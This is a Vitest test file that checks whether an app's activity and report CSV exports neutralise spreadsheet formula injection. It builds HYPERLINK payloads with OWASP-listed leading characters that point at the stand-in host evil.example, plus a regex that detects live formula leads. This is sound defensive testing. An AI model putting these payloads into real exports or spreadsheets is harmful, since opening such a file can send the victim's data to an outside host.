import { describe, expect, it } from 'vitest'
import { parseCsv } from '../../electron/core/csv/csvText'
import { csvColumns } from '../../electron/core/importers/csv/csvColumns'
import { apiOf, must } from '../support/api'
import { useTempCores } from '../support/useTempCores'

const { open, openClocked } = useTempCores()

/** What a spreadsheet would run as a formula: the leads OWASP lists, and the full-width forms some read the same way. */
const live = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/
const leads = ['=', '@', '+', '-', '\t', '\r', '\uFF1D'] as const
const payload = (lead: string, what: string) => `${lead}HYPERLINK("http://evil.example/?${what}","x")`

/** Every cell of every record, header included, as a spreadsheet would receive it. */
function cells(csv: string): string[][] {
  const parsed = parseCsv(csv, ',')
  expect(parsed.error).toBeNull()
  return parsed.records.map((r) => r.cells)
}

const liveCells = (csv: string): string[] => cells(csv).flat().filter((cell) => live.test(cell))

/** One imported activity per hostile lead, with it at the start of every free-text column, keys included. */
function hostileActivities(): string {
  const rows = leads.map((lead, i) => {
    const values: Record<string, string> = {
      date: `2026-06-${String(i + 10)}`,
      kind: 'commits',
      title: payload(lead, 'title'),
      repo: `${lead}evil/repo${String(i)}`,
      notes: payload(lead, 'notes'),
      key: payload(lead, `key${String(i)}`),
      commit_count: '1',
    }
    return csvColumns.map((column) => `"${(values[column] ?? '').replace(/"/g, '""')}"`).join(',')
  })
  return `${csvColumns.join(',')}\n${rows.join('\n')}\n`
}

describe('the activity CSV export', () => {
  it('defuses every hostile lead in every column, keys included', async () => {
    const core = await open()
    const api = apiOf(core)
    const summary = await must(api.imports.csvCommit({ text: hostileActivities() }))
    expect(summary.errors).toEqual([])
    const { csv } = await must(api.imports.csvExport({}))
    expect(liveCells(csv)).toEqual([])
    const keyColumn = csvColumns.indexOf('key')
    expect(cells(csv).slice(1).map((row) => row[keyColumn])).toContain(`'${payload('=', 'key0')}`)
  })

  it('reads back into a new store exactly as it was, apostrophes of our own included', async () => {
    const first = apiOf(await open())
    await must(first.imports.csvCommit({ text: hostileActivities() }))
    for (const title of ["'=already quoted", "'plain with an apostrophe", "''two", "'", "it's fine"]) {
      await must(first.activities.create({ kind: 'learning', date: '2026-07-01', title, notes: title }))
    }
    const { csv } = await must(first.imports.csvExport({}))
    const second = apiOf(await open())
    expect((await must(second.imports.csvCommit({ text: csv }))).errors).toEqual([])
    const kept = async (api: typeof first) =>
      (await must(api.activities.list({ sort: 'date-asc' }))).rows.map((r) => ({ title: r.title, repo: r.repo, notes: r.notes, key: r.externalKey })).sort((a, b) => a.title.localeCompare(b.title))
    expect(await kept(second)).toEqual(await kept(first))
    expect((await kept(second)).map((r) => r.title)).toContain("'=already quoted")
  })
})

describe('the report CSV', () => {
  it('defuses every hostile lead in every column', async () => {
    const { api } = await openClocked('2026-12-01T12:00:00Z')
    await must(api.imports.csvCommit({ text: hostileActivities() }))
    for (const lead of leads) await must(api.goals.create({ title: payload(lead, 'goal'), description: payload(lead, 'description'), startDate: '2026-01-01', targetDate: '2026-12-31' }))
    const { content } = await must(api.reports.render({ options: { period: { preset: 'this-year' }, timeZone: 'UTC' }, format: 'csv' }))
    const rows = cells(content)
    // The hostile text is there, as text.
    expect(rows.filter((row) => row[0] === 'activity')).toHaveLength(leads.length)
    expect(rows.filter((row) => row[0] === 'goal')).toHaveLength(leads.length)
    expect(liveCells(content)).toEqual([])
  })
})
